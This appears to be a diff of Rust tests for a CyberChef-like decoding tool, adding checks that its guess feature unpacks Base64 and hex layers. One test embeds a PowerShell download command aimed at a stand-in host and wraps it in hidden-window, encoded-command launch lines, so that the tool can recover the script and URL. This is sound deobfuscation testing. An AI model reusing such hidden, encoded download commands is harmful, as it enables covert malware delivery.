@@ -173,8 +173,8 @@ fn a_breakpoint_stops_and_a_disabled_step_is_passed_over() {
 #[test]
 fn what_cannot_be_run_is_named_before_anything_runs() {
     refused(
-        "To_Hex()Magic(3,false,false,'')",
-        &expect![[r#"prepare step 2 of the recipe: the operation "Magic" is not one of this version's"#]],
+        "To_Hex()Enigma()",
+        &expect![[r#"prepare step 2 of the recipe: the operation "Enigma" is not one of this version's"#]],
     );
     refused(
         "To_Hex(/disabled)no_such_thing(/disabled)",
@@ -312,4 +312,45 @@ proptest! {
         let read = super::address::Address::read(&address).unwrap();
         prop_assert_eq!(read.recipe().unwrap().0, chef.as_str());
     }
+}
+
+#[track_caller]
+fn guessed(input: &[u8], snippet: &str) {
+    let found = super::guess(input, &Limits::desk()).unwrap();
+    let known = found.guesses.iter().any(|guess| {
+        guess.snippet == snippet && Recipe::parse(&guess.recipe).unwrap().bake(input, &Limits::desk()).is_ok()
+    });
+    assert!(known, "{:?}", found.guesses.iter().map(|guess| &guess.snippet).collect::<Vec<_>>());
+}
+
+#[test]
+fn without_a_recipe_what_powershell_encodes_is_found() {
+    let script = "iwr http://one.example/a -OutFile x";
+    let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let encoded = String::from_utf8(bake("To_Base64()", &wide)).unwrap();
+    guessed(encoded.as_bytes(), script);
+    for switch in ["-e", "-ENCOD", "-EncodedCommand", "/enc"] {
+        guessed(format!("powershell -w hidden {switch} {encoded}").as_bytes(), script);
+    }
+    let found = super::guess(format!("powershell -enc {encoded}").as_bytes(), &Limits::desk()).unwrap();
+    assert_eq!(found.commands[0].urls[0].text, "http://one.example/a");
+    // The plain page does not know it; ours is no part of the operation.
+    let table = bake("Magic(5,false,false,'iwr')", encoded.as_bytes());
+    assert!(
+        String::from_utf8_lossy(&table).starts_with("Nothing of interest"),
+        "{}",
+        String::from_utf8_lossy(&table)
+    );
+}
+
+#[test]
+fn without_a_recipe_packed_layers_are_found() {
+    guessed(
+        &bake("To_Hex('Space')", b"plain words in English, and more of them"),
+        "plain words in English, and more of them",
+    );
+    guessed(
+        &bake("To_Base64()", &bake("To_Hex('None')", b"plain words in English text")),
+        "plain words in English text",
+    );
 }
